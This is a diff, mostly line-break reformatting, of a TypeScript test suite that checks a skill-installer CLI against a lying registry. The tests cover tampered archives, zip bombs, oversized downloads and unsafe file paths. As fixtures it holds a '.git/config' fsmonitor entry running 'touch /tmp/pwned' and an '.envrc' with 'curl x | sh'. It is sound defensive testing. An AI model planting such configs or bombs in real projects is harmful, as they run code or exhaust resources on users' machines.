@@ -31,7 +31,10 @@ interface Served {
 
 /** A version as a correct registry serves it: files with digests, the archive's digest as the version's. */
 function honest(version: string, files: Record<string, string>): Served {
-  const archive = bundleArchive(MD, Object.entries(files).map(([path, text]) => ({ path, content: bytes(text) })));
+  const archive = bundleArchive(
+    MD,
+    Object.entries(files).map(([path, text]) => ({ path, content: bytes(text) })),
+  );
   return {
     version,
     files: Object.entries(files).map(([path, text]) => ({ path, size: Buffer.byteLength(text), digest: digest(text) })),
@@ -62,7 +65,22 @@ describe('install against a registry that lies', () => {
 
   before(async () => {
     server = await testServer((_request, response, path) => {
-      const skill = { id: 'sk_bundled', name: 'bundled', agent_id: 'mallory', skill_md_content: MD, latest_version: served.version, yanked: served.yanked ?? false, visibility: 'public', quality_score: 0.5, tags: [], domain: null, license: null, version: served.version, files: served.files, ...(served.digest ? { digest: served.digest } : {}) };
+      const skill = {
+        id: 'sk_bundled',
+        name: 'bundled',
+        agent_id: 'mallory',
+        skill_md_content: MD,
+        latest_version: served.version,
+        yanked: served.yanked ?? false,
+        visibility: 'public',
+        quality_score: 0.5,
+        tags: [],
+        domain: null,
+        license: null,
+        version: served.version,
+        files: served.files,
+        ...(served.digest ? { digest: served.digest } : {}),
+      };
       if (path === '/v1/skills/sk_bundled' || path === `/v1/skills/sk_bundled/versions/${served.version}`) {
         if (served.skill) served.skill(response);
         else json(response, 200, { data: skill });
@@ -70,7 +88,9 @@ describe('install against a registry that lies', () => {
         if (typeof served.archive === 'function') served.archive(response);
         else {
           archiveBytesSent += served.archive.length;
-          response.writeHead(200, { 'content-type': 'application/zip', 'content-length': served.archive.length }).end(Buffer.from(served.archive));
+          response
+            .writeHead(200, { 'content-type': 'application/zip', 'content-length': served.archive.length })
+            .end(Buffer.from(served.archive));
         }
       } else json(response, 404, { error: { code: 'NOT_FOUND', message: `no ${path}` } });
     });
@@ -102,27 +122,49 @@ describe('install against a registry that lies', () => {
   it('leaves the installed version untouched, and no temporary folder, when the new archive differs from its digest', async () => {
     await installFirst();
     const good = honest('1.1.0', { 'scripts/extract.py': SCRIPT });
-    served = { ...good, archive: bundleArchive(MD, [{ path: 'scripts/extract.py', content: bytes('print("tampered")\n') }]) };
+    served = {
+      ...good,
+      archive: bundleArchive(MD, [{ path: 'scripts/extract.py', content: bytes('print("tampered")\n') }]),
+    };
     const tampered = await cli(['install', 'sk_bundled', '--root', root]);
     assert.equal(tampered.code, 1);
-    assert.match(tampered.stderr, /the archive of version 1\.1\.0: the content's sha256 .* differs from the registry's digest/);
+    assert.match(
+      tampered.stderr,
+      /the archive of version 1\.1\.0: the content's sha256 .* differs from the registry's digest/,
+    );
     assertUntouched();
   });
 
   it('refuses a zip bomb from its declared sizes before inflating anything', async () => {
     await installFirst();
-    const bomb = zipSync({ 'SKILL.md': bytes(MD), 'scripts/extract.py': new Uint8Array(32 * 1024 * 1024) }, { level: 9 });
+    const bomb = zipSync(
+      { 'SKILL.md': bytes(MD), 'scripts/extract.py': new Uint8Array(32 * 1024 * 1024) },
+      { level: 9 },
+    );
     assert.ok(bomb.length < 64 * 1024, 'a small archive');
-    served = { version: '1.1.0', files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }], digest: digest(bomb), archive: bomb };
+    served = {
+      version: '1.1.0',
+      files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }],
+      digest: digest(bomb),
+      archive: bomb,
+    };
     const declared = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
     assert.equal(declared.code, 1);
     assert.equal(parsed(declared).error.code, 'SIZE_MISMATCH');
-    assert.match(parsed(declared).error.message, /says scripts\/extract\.py has 33554432 bytes, but the file list says 17/);
+    assert.match(
+      parsed(declared).error.message,
+      /says scripts\/extract\.py has 33554432 bytes, but the file list says 17/,
+    );
     assertUntouched();
 
     // Sizes within every cap, but compressed a thousand to one: a bomb by its ratio.
     const dense = zipSync({ 'SKILL.md': bytes(MD), 'scripts/extract.py': new Uint8Array(400 * 1024) }, { level: 9 });
-    served = { version: '1.1.0', files: [{ path: 'scripts/extract.py', size: 400 * 1024, digest: digest(new Uint8Array(400 * 1024)) }], digest: digest(dense), archive: dense };
+    served = {
+      version: '1.1.0',
+      files: [{ path: 'scripts/extract.py', size: 400 * 1024, digest: digest(new Uint8Array(400 * 1024)) }],
+      digest: digest(dense),
+      archive: dense,
+    };
     const ratio = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
     assert.equal(parsed(ratio).error.code, 'ZIP_BOMB');
     assertUntouched();
@@ -134,7 +176,12 @@ describe('install against a registry that lies', () => {
     const liar = claimSize(zipSync({ 'scripts/extract.py': new Uint8Array(32 * 1024 * 1024) }, { level: 9 }), 17);
     const archive = zipSync({ 'SKILL.md': [bytes(MD), { level: 0 }] });
     const merged = mergeZips(archive, liar);
-    served = { version: '1.1.0', files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }], digest: digest(merged), archive: merged };
+    served = {
+      version: '1.1.0',
+      files: [{ path: 'scripts/extract.py', size: 17, digest: digest(SCRIPT) }],
+      digest: digest(merged),
+      archive: merged,
+    };
     const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
     assert.equal(result.code, 1);
     assert.match(parsed(result).error.code, /^(DIGEST_MISMATCH|ZIP_BOMB)$/);
@@ -158,16 +205,25 @@ describe('install against a registry that lies', () => {
     const result = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
     assert.equal(result.code, 1);
     assert.equal(parsed(result).error.code, 'ANSWER_TOO_LARGE');
-    assert.match(parsed(result).error.message, /^the archive of version 1\.1\.0 is larger than \d+ bytes; stopped reading it$/);
+    assert.match(
+      parsed(result).error.message,
+      /^the archive of version 1\.1\.0 is larger than \d+ bytes; stopped reading it$/,
+    );
     assert.ok(written < 64 * 1024 * 1024, `the server could write only ${written} bytes before the command hung up`);
     assertUntouched();
 
     served = {
       ...honest('1.1.0', { 'scripts/extract.py': SCRIPT }),
-      archive: (response) => response.writeHead(200, { 'content-type': 'application/zip', 'content-length': String(2 * 1024 ** 3) }).write(Buffer.alloc(1024)),
+      archive: (response) =>
+        response
+          .writeHead(200, { 'content-type': 'application/zip', 'content-length': String(2 * 1024 ** 3) })
+          .write(Buffer.alloc(1024)),
     };
     const declared = await cli(['--json', 'install', 'sk_bundled', '--root', root]);
-    assert.match(parsed(declared).error.message, /^the archive of version 1\.1\.0 is 2147483648 bytes, more than the \d+ expected; not downloaded$/);
+    assert.match(
+      parsed(declared).error.message,
+      /^the archive of version 1\.1\.0 is 2147483648 bytes, more than the \d+ expected; not downloaded$/,
+    );
     assertUntouched();
   });
 
@@ -199,7 +255,10 @@ describe('install against a registry that lies', () => {
       [{ 'A.md': 'x', 'a.md': 'y' }, /"a\.md" collides with "A\.md" \(rule case_collision\)/],
       [{ CON: 'x' }, /rule reserved_name/],
       [{ 'x.': 'x' }, /rule trailing_dot/],
-      [{ '.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' }, /"\.git\/config" is version-control metadata \(\.git\).*\(rule vcs_metadata\)/],
+      [
+        { '.git/config': '[core]\n\tfsmonitor = touch /tmp/pwned\n' },
+        /"\.git\/config" is version-control metadata \(\.git\).*\(rule vcs_metadata\)/,
+      ],
       [{ '.envrc': 'curl x | sh\n' }, /rule tool_config/],
     ];
     const downloads = () => server.requests.filter((r) => r.endsWith('archive.zip')).length;
